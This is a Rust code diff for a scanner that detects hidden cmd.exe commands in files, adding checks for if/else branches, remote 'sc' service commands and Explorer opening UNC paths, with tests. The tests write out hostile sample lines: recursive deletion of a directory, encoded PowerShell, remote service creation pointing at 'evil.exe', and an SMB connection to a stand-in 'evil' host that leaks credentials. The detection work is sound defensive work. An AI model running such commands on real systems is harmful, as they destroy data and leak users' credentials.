@@ -608,6 +608,19 @@ fn tool_argument(tool: &[u8], after: &[u8], chance_bytes: bool) -> bool {
         || runs_subcommand(tool, after, chance_bytes)
         || quoted_title
         || names_program_or_url(token)
+        || (tool == b"explorer" && names_remote_host(token))
+}
+
+/// Whether `token` is a UNC path naming a remote host (`\\evil\share`, quoted or not):
+/// Explorer opening one connects to the host over SMB with the user's credentials (the
+/// credential leak issue 10 names for a PDF's GoToR to a UNC path; review of session
+/// 37). A local device path (`\\.\`, `\\?\`) names none.
+fn names_remote_host(token: &[u8]) -> bool {
+    let token = token.strip_prefix(b"\"").unwrap_or(token);
+    token
+        .strip_prefix(b"\\\\")
+        .and_then(|host| host.first())
+        .is_some_and(u8::is_ascii_alphanumeric)
 }
 
 /// Whether the arguments of `tool` in `after` hold a switch it takes ([`switch_words`]).
@@ -4361,16 +4374,18 @@ fn batch_command_at(
 /// operators, redirections, `call`, `if`, `for /f`, `set`: phase 1.5 of its parser in
 /// the analyses of it; session 35: `r<CR>d /s /q C:\x` is `rd /s /q C:\x`; session
 /// 37: `fo<CR>r /f`, `s<CR>et p=…`, `"ev<CR>il.exe"`, `c<CR>all x`). Read once per
-/// candidate and by every rule. A command holding no carriage return but those before
-/// its line feed is the bytes as they are, to the file's end as before; one holding one
-/// inside is a copy without them, bounded: to the command's end (a line feed, a Ctrl-Z
-/// or an operator, kept, where the next candidate starts), on over the lines a caret
-/// ending a line joins to it (at most [`MAX_BATCH_NAME_CONTINUATIONS`]), and no more
-/// than cmd.exe reads of a line ([`CMD_LINE_LIMIT`]), so each byte is copied for a
-/// bounded number of commands (a file of `&a<CR>` repeated would otherwise be copied to
-/// its end once per command). A binary value's start, a candidate of its own, is read to
-/// the value's end at most ([`search_batch`]). Left open: an operator inside quotes or
-/// escaped (`^&`) ends the copy there.
+/// candidate and by every rule, to the command's end as cmd.exe finds it on the line
+/// without its CRs ([`command_extent`], session 38: an operator outside quotes and not
+/// escaped, never the `&` of `2><CR>&1`; a line feed no caret escapes, over at most
+/// [`MAX_BATCH_NAME_CONTINUATIONS`] continued lines; no more than cmd.exe reads of a line,
+/// [`CMD_LINE_LIMIT`] counted without the CRs), the byte that ends it kept (where the
+/// next candidate starts). A command holding no carriage return but those before a line
+/// feed is the bytes as they are; one holding one inside is a copy without them. Each
+/// byte is read for a bounded number of commands: the raw bytes of one are bounded by
+/// [`MAX_CMD_LINE_RAW_BYTES`], the separators it reads past by
+/// [`MAX_CMD_PASSED_SEPARATORS`] (each a candidate of its own), and reaching either is a
+/// `not-inspected` warning ([`ViewLimit`]). A binary value's start, a candidate of its
+/// own, is read to the value's end at most ([`search_batch`]).
 ///
 /// cmd.exe deletes them after `%` expansion, this view before it: a variable's name
 /// with a CR inside (`%p<CR>x%`) is read as `%px%` (a value set never holds one: its
@@ -4785,9 +4800,17 @@ fn runs_subcommand(tool: &[u8], rest: &[u8], chance_bytes: bool) -> bool {
         return false;
     };
     // The first argument cmd.exe hands over, past any redirection (`net >nul user`).
-    let Some(first) = leading_arguments(rest, chance_bytes).next() else {
+    let mut arguments = leading_arguments(rest, chance_bytes);
+    let Some(mut first) = arguments.next() else {
         return false;
     };
+    // `sc \\host config …`: a remote host's name comes first (review of session 37).
+    if tool == b"sc" && first.starts_with(b"\\\\") {
+        let Some(next) = arguments.next() else {
+            return false;
+        };
+        first = next;
+    }
     subcommands
         .iter()
         .any(|sub| first.eq_ignore_ascii_case(sub))
@@ -4822,6 +4845,7 @@ struct ProgramStart {
 fn program_start_and_set_command(line: &[u8]) -> ProgramStart {
     let mut set_command = None;
     let mut keyword = false;
+    let mut else_looked = false;
     let delimiter = |b: &u8| is_token_delimiter(*b) || matches!(b, b'\r' | b'@' | b'(');
     // A word also ends at an operator or the line's end, where the next candidate
     // starts; the command's extent is only looked for after `if` and `for`.
@@ -4862,7 +4886,16 @@ fn program_start_and_set_command(line: &[u8]) -> ProgramStart {
         } else if word.eq_ignore_ascii_case(b"if") {
             // A condition cmd.exe cannot read is a syntax error: nothing runs.
             match past_if_condition(command(), word_end) {
-                Some(body) => at = body,
+                Some(body) => {
+                    // The `else` branch of the first `if` is a command of its own
+                    // (`if 1==2 (echo) else rd /s /q C:\PACS`, review of session 37),
+                    // judged as a `for /f` set is; once a candidate: linear.
+                    if !else_looked {
+                        else_looked = true;
+                        set_command = set_command.or_else(|| else_branch(command(), body));
+                    }
+                    at = body;
+                }
                 None => return done,
             }
         } else if word.eq_ignore_ascii_case(b"for") {
@@ -4877,6 +4910,44 @@ fn program_start_and_set_command(line: &[u8]) -> ProgramStart {
         }
         keyword = true;
     }
+}
+
+/// Where the command of an `if`'s `else` starts in `command`, when the `if`'s body
+/// (at `body`) is a `(` block followed by `else`: cmd.exe takes an `else` only after a
+/// block's `)` (outside quotes, not escaped), on the same line. A block over several
+/// lines is not followed here.
+fn else_branch(command: &[u8], body: usize) -> Option<usize> {
+    let rest = command.get(body..)?;
+    let open = rest.iter().position(|&b| !is_token_delimiter(b))?;
+    if rest[open] != b'(' {
+        return None;
+    }
+    let (mut depth, mut quoted, mut escaped) = (0usize, false, false);
+    let mut close = None;
+    for (i, &b) in rest[open..].iter().enumerate() {
+        if std::mem::take(&mut escaped) {
+            continue;
+        }
+        match b {
+            b'"' => quoted = !quoted,
+            b'^' if !quoted => escaped = true,
+            b'(' if !quoted => depth += 1,
+            b')' if !quoted => {
+                depth = depth.saturating_sub(1);
+                if depth == 0 {
+                    close = Some(open + i + 1);
+                    break;
+                }
+            }
+            _ => {}
+        }
+    }
+    let after = &rest[close?..];
+    let word = after.iter().position(|&b| !is_token_delimiter(b))?;
+    let keyword = after.get(word..word + 4)?;
+    let next = after.get(word + 4).copied();
+    (keyword.eq_ignore_ascii_case(b"else") && next.is_some_and(|b| is_token_delimiter(b) || b == b'('))
+        .then(|| body + (rest.len() - after.len()) + word + 4)
 }
 
 /// Past the condition of an `if` whose keyword ends at `from`: `[/i] [not]` then
@@ -7786,5 +7857,57 @@ mod command_end_tests {
         ]
         .concat();
         assert_eq!(severity(&past, false), Some(Severity::Warning));
+    }
+}
+
+/// Issue 10, review of session 37 (session 38, r38-screen): commands cmd.exe runs that
+/// no CR hides, missed: the `else` branch of an `if`, `sc` given a remote host before its
+/// subcommand, and `explorer` given a UNC path (it connects to the host with the user's
+/// credentials, as a PDF's GoToR to a UNC path does: issue 10 names it a credential leak).
+#[cfg(test)]
+mod branch_and_host_tests {
+    use super::*;
+
+    fn severity(line: &[u8], binary: bool) -> Option<Severity> {
+        let bytes = [&b"\x80\x81x\r\n"[..], line].concat();
+        let whole = 0..bytes.len();
+        let ranges: &[std::ops::Range<usize>] = if binary {
+            std::slice::from_ref(&whole)
+        } else {
+            &[]
+        };
+        find_batch_command_within(&bytes, ranges, &crate::budget::Clock::default())
+            .map(|found| found.severity)
+    }
+
+    #[test]
+    fn an_else_branch_a_remote_sc_and_explorer_on_a_unc_path_are_commands() {
+        for line in [
+            &b"if 1==2 (echo) else rd /s /q C:\\PACS\r\n"[..],
+            b"if 1==2 (echo x) ELSE (rd /s /q C:\\PACS)\r\n",
+            b"if exist x (echo \"a)\") else powershell -enc SQBFAFgA\r\n",
+            b"if 1==2 (if 2==3 (echo) else echo) else rd /s /q C:\\PACS\r\n",
+            b"sc \\\\host config x binpath= C:\\evil.exe\r\n",
+            b"sc \\\\10.0.0.5 create x binpath= C:\\evil.exe\r\n",
+            b"explorer \\\\evil\\share\r\n",
+            b"explorer \\\\10.0.0.5@80\\x\r\n",
+        ] {
+            for binary in [false, true] {
+                assert_eq!(
+                    severity(line, binary),
+                    Some(Severity::Alert),
+                    "{:?} (binary: {binary})",
+                    String::from_utf8_lossy(line)
+                );
+            }
+        }
+        // Prose and a local device path are none.
+        for line in [
+            &b"if you like (see above) else we go on\r\n"[..],
+            b"explorer \\\\.\\pipe\r\n",
+            b"sc \\\\host is down\r\n",
+        ] {
+            assert_eq!(severity(line, false), None, "{:?}", String::from_utf8_lossy(line));
+        }
     }
 }
